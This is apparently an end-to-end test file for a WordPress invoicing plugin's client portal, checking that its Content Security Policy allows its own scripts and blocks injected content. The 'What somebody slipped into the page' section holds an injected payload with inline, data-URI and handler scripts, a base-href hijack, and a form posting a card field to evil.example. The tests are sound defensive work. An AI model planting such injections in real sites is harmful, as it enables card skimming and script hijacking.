import type { Page } from '@playwright/test';
import type { Site } from '../../tools/site/site';
import { expect, phone, test } from '../support/browser';
import { succeed } from '../support/expectations';
import { aSentDocument, copyLink, pay, readDocument } from '../support/makers';
import type { People } from '../support/money-site';
import { withMuPlugin } from '../support/mu-plugin';
import { watchFaults } from '../support/page-faults';
import { watchPolicy } from '../support/policy-violations';

const themes = {
	'a block theme': '',
	'a classic theme': 'classic',
} as const;

const lines = [ { description: 'Garden design', quantity: 10_000, unit_price: 100_000 } ];

async function anInvoice( people: People ): Promise< { id: number; url: string } > {
	const { id } = await aSentDocument( people.owner, { currency: 'USD', due_date: '2999-12-31', lines } );
	return { id, url: ( await copyLink( people.owner, id ) ).url };
}

/** The page, once its script is at work. */
async function openAlive( page: Page, url: string ): Promise< void > {
	await page.goto( url, { waitUntil: 'networkidle' } );
	await expect( page.getByRole( 'button', { name: 'Print or save as PDF' } ) ).toBeVisible();
}

const mark = ( page: Page ) => page.evaluate( () => void Object.assign( window, { isSamePage: true } ) );
const isSame = ( page: Page ) => page.evaluate( () => 'isSamePage' in window );

/** As if the reader came back to the tab. */
const lookAgain = ( page: Page ) =>
	page.evaluate( () => void document.dispatchEvent( new Event( 'visibilitychange' ) ) );

async function withTheme( site: Site, theme: string, work: () => Promise< void > ): Promise< void > {
	const before =
		theme !== '' &&
		( await site.php< string >( '$before = get_stylesheet(); switch_theme( $input ); return $before;', theme ) );
	try {
		await work();
	} finally {
		if ( before !== false ) {
			await site.php( 'switch_theme( $input );', before );
		}
	}
}

for ( const [ what, theme ] of Object.entries( themes ) ) {
	test( `In ${ what } nothing that the page needs is refused: on load, when it renews itself, in print`, async ( {
		people,
		site,
		visitor,
	} ) => {
		const { id, url } = await anInvoice( people );
		await withTheme( site, theme, async () => {
			const page = await visitor( phone );
			const refused = await watchPolicy( page );
			const faults = watchFaults( page, site );
			await openAlive( page, url );
			await mark( page );
			await pay( people.owner, await readDocument( people.owner, id ), 40_000 );
			await lookAgain( page );
			await expect( page.getByRole( 'status' ) ).toHaveText( /^Partly paid, .*600\.00 USD$/ );
			expect( await isSame( page ) ).toBe( true );
			await page.emulateMedia( { media: 'print' } );
			await page.pdf( { format: 'A4' } );
			await page.emulateMedia( { media: 'screen' } );
			await page.goto( `${ url.slice( 0, -5 ) }wrong`, { waitUntil: 'networkidle' } );
			await expect( page.getByRole( 'heading', { name: 'This page is not available' } ) ).toBeVisible();
			expect( refused ).toEqual( [] );
			expect( faults.elsewhere ).toEqual( [] );
			// The browser itself names the answer to the wrong address.
			expect( faults.errors.filter( ( error ) => ! error.includes( '403' ) ) ).toEqual( [] );
		} );
	} );
}

test( 'A page that needs another module once it is renewed is loaded anew, with it', async ( {
	people,
	site,
	visitor,
} ) => {
	const { id, url } = await anInvoice( people );
	const late = `add_action( 'wp_enqueue_scripts', static function () {
		if ( get_option( 'test_late' ) ) {
			wp_interactivity()->add_client_navigation_support_to_script_module( '@wordpress/block-library/file/view' );
			wp_enqueue_script_module( '@wordpress/block-library/file/view' );
		}
	} );`;
	await withMuPlugin( site, late, async () => {
		const page = await visitor( phone );
		const refused = await watchPolicy( page );
		await openAlive( page, url );
		await pay( people.owner, await readDocument( people.owner, id ), 40_000 );
		await site.php( `update_option( 'test_late', '1' );` );
		try {
			await lookAgain( page );
			await expect( page.getByRole( 'heading', { name: 'Payments so far' } ) ).toBeVisible();
			await expect( page.locator( 'script[type=module][src*="block-library/file/view"]' ) ).toHaveCount( 1 );
		} finally {
			await site.php( `delete_option( 'test_late' );` );
		}
		// WordPress's router reads the names of modules with eval; the page does without, and reloads.
		expect( refused.filter( ( what ) => ! what.includes( 'eval' ) ) ).toEqual( [] );
	} );
} );

test( 'Staff see the preview, by itself and in a frame of the site, with nothing refused', async ( {
	people,
	screenOf,
	site,
} ) => {
	const { id } = await aSentDocument( people.owner, { lines } );
	const preview = succeed< { url: string } >(
		await people.owner.rest( 'POST', `/documents/${ id }/portal-preview` )
	);
	const { page } = await screenOf( 'owner' );
	const refused = await watchPolicy( page );
	await page.goto( preview.url, { waitUntil: 'networkidle' } );
	await expect( page.getByText( 'Only you can see this page.' ) ).toBeVisible();
	await page.goto( site.url );
	await page.evaluate( ( url ) => {
		const frame = document.createElement( 'iframe' );
		frame.src = url;
		frame.style.inlineSize = '60rem';
		document.body.prepend( frame );
	}, preview.url );
	await expect( page.frameLocator( 'iframe' ).getByText( 'Only you can see this page.' ) ).toBeVisible();
	expect( refused ).toEqual( [] );
} );

test( 'A file that a script of the page makes can be saved, with fonts from the plugin in it', async ( {
	people,
	site,
	visitor,
} ) => {
	const { url } = await anInvoice( people );
	const page = await visitor();
	const refused = await watchPolicy( page );
	await openAlive( page, url );
	const [ download ] = await Promise.all( [
		page.waitForEvent( 'download' ),
		page.evaluate( async ( font ) => {
			const bytes = await ( await fetch( font ) ).arrayBuffer();
			const link = document.createElement( 'a' );
			link.href = URL.createObjectURL( new Blob( [ bytes ], { type: 'application/pdf' } ) );
			link.download = 'invoice.pdf';
			link.click();
		}, `${ site.url }/wp-content/plugins/coffer/plugin.json` ),
	] );
	expect( download.suggestedFilename() ).toBe( 'invoice.pdf' );
	expect( refused ).toEqual( [] );
} );

test.describe( 'What somebody slipped into the page', () => {
	const elsewhere = 'https://evil.example';

	/** Prints it into every page of the site, past everything that escapes. */
	const injected = `add_action( 'wp_body_open', static function () { ?>
		<base href="${ elsewhere }/">
		<script>window.ran = [ 'inline' ];</script>
		<script nonce="">( window.ran ??= [] ).push( 'empty nonce' );</script>
		<script src="${ elsewhere }/loaded.js"></script>
		<script src="data:text/javascript,(window.ran ??= []).push( 'data' );"></script>
		<img alt="" src="data:,x" onerror="( window.ran ??= [] ).push( 'handler' )">
		<img alt="" src="${ elsewhere }/pixel.gif">
		<iframe title="frame" srcdoc="<script>( parent.ran ??= [] ).push( 'frame' )</script>"></iframe>
		<a id="address" href="javascript:void ( window.ran ??= [] ).push( 'address' )">address</a>
		<style>body { background: url( ${ elsewhere }/style.gif ); }</style>
		<form action="${ elsewhere }/collect" method="post"><input name="card"><button>Send it</button></form>
	<?php } );`;

	/** Opens a page of the site as a reader would and tries all of it: what ran, and what another host was asked for. */
	async function tryAll(
		page: Page,
		url: string,
		{ isGuarded, check = async () => {} }: { isGuarded: boolean; check?: () => Promise< void > }
	): Promise< { ran: readonly string[]; asked: readonly string[] } > {
		const asked: string[] = [];
		await page.route( `${ elsewhere }/**`, ( route ) => {
			asked.push( new URL( route.request().url() ).pathname );
			return route.fulfill( {
				contentType: 'text/javascript',
				body: "( window.ran ??= [] ).push( 'elsewhere' )",
			} );
		} );
		await page.goto( url, { waitUntil: 'load' } );
		await check();
		await page.locator( '#address' ).click();
		// An address that is a script runs some time after the click; that it does not run has to be waited for.
		await ( isGuarded
			? page.waitForTimeout( 500 )
			: page.waitForFunction( () => ( window as unknown as { ran?: string[] } ).ran?.includes( 'address' ) ) );
		const ran = await page.evaluate( () => ( window as unknown as { ran?: string[] } ).ran ?? [] );
		await page.getByRole( 'button', { name: 'Send it' } ).click( { noWaitAfter: true } );
		await ( isGuarded ? page.waitForTimeout( 500 ) : expect.poll( () => asked ).toContain( '/collect' ) );
		return { ran, asked };
	}

	for ( const [ what, theme ] of Object.entries( themes ) ) {
		test( `neither runs in ${ what }, nor calls another host, nor sends a form there`, async ( {
			people,
			site,
			visitor,
		} ) => {
			const { url } = await anInvoice( people );
			await withTheme( site, theme, () =>
				withMuPlugin( site, injected, async () => {
					const page = await visitor();
					const refused = await watchPolicy( page );
					const alive = () =>
						expect( page.getByRole( 'button', { name: 'Print or save as PDF' } ) ).toBeVisible();
					expect( await tryAll( page, url, { isGuarded: true, check: alive } ) ).toEqual( {
						ran: [],
						asked: [],
					} );
					expect( page.url() ).toBe( url );
					for ( const directive of [
						'script-src-elem',
						'script-src-attr',
						'base-uri',
						'img-src',
						'form-action',
					] ) {
						expect( refused.join( '\n' ), directive ).toContain( directive );
					}
					// Elsewhere on the site, which is not ours to guard, all of it works: so it could have here.
					const other = await tryAll( await visitor(), site.url, { isGuarded: false } );
					expect( other.ran ).toEqual(
						expect.arrayContaining( [ 'inline', 'data', 'handler', 'frame', 'address' ] )
					);
					expect( other.asked ).toEqual(
						expect.arrayContaining( [ '/loaded.js', '/pixel.gif', '/collect' ] )
					);
				} )
			);
		} );
	}

	test( 'a plugin’s script from another host runs only where the owner adds that host', async ( {
		people,
		site,
		visitor,
	} ) => {
		const { url } = await anInvoice( people );
		const enqueued = `add_action( 'wp_enqueue_scripts', static fn () => wp_enqueue_script( 'meter', '${ elsewhere }/meter.js', array(), null ) );`;
		const allowed = `add_filter( 'coffer_portal_sources', static fn ( $sources ) => array( 'script-src' => array( '${ elsewhere }' ) ) + $sources );`;
		for ( const [ code, asked ] of [
			[ enqueued, [] ],
			[ enqueued + allowed, [ '/meter.js' ] ],
		] as const ) {
			await withMuPlugin( site, code, async () => {
				const page = await visitor();
				const calls: string[] = [];
				await page.route( `${ elsewhere }/**`, ( route ) => {
					calls.push( new URL( route.request().url() ).pathname );
					return route.fulfill( { contentType: 'text/javascript', body: '' } );
				} );
				await page.goto( url, { waitUntil: 'load' } );
				expect( calls ).toEqual( asked );
			} );
		}
	} );
} );
